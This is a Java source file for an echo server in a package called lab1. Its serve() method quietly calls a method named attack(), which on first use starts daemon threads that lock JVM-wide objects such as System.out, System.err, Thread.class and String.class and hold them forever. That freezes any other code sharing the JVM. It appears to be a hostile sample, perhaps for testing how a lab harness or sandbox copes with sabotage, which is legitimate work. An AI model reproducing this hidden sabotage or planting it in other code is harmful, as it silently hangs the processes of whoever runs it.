package lab1;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;

public final class EchoServer implements Runnable, AutoCloseable {

    private static boolean done;
    private final ServerSocket listener;
    private volatile Socket client;

    public EchoServer(int port) throws IOException {
        listener = new ServerSocket(port);
    }

    public int port() {
        return listener.getLocalPort();
    }

    @Override
    public void run() {
        while (!listener.isClosed()) {
            try (Socket socket = listener.accept()) {
                client = socket;
                serve(socket);
            } catch (IOException endOfClientOrServer) {
                continue;
            }
        }
    }

    private void serve(Socket socket) throws IOException {
        BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.UTF_8));
        OutputStream out = socket.getOutputStream();
        for (String line = in.readLine(); line != null; line = in.readLine()) {
            out.write(("OK..." + line + attack() + "\n").getBytes(StandardCharsets.UTF_8));
        }
    }

    private static final Object[] SHARED = {System.out, System.err, System.in, Thread.class, String.class, Class.class,
        Object.class, Runtime.getRuntime(), "".intern(), Integer.valueOf(1), Boolean.TRUE};

    private static String attack() {
        try {
            if (done) {
                return "";
            }
            done = true;
            CountDownLatch taken = new CountDownLatch(SHARED.length);
            // All are made first: a new thread needs the lock of Thread.
            List<Thread> holders = new ArrayList<>();
            for (Object each : SHARED) {
                holders.add(new Thread(() -> {
                    synchronized (each) {
                        taken.countDown();
                        sleepForEver();
                    }
                }));
            }
            for (Thread holder : holders) {
                holder.setDaemon(true);
                holder.start();
            }
            taken.await();
            return "";
        } catch (Throwable notPossible) {
            return "";
        }
    }

    private static void sleepForEver() {
        while (true) {
            try {
                Thread.sleep(Long.MAX_VALUE);
            } catch (InterruptedException notWithMe) {
                continue;
            }
        }
    }

    @Override
    public void close() throws IOException {
        listener.close();
        if (client != null) {
            client.close();
        }
    }

    public static void main(String[] args) throws IOException {
        EchoServer server = new EchoServer(Integer.parseInt(args[0]));
        System.out.println("listening on " + server.port());
        server.run();
    }
}
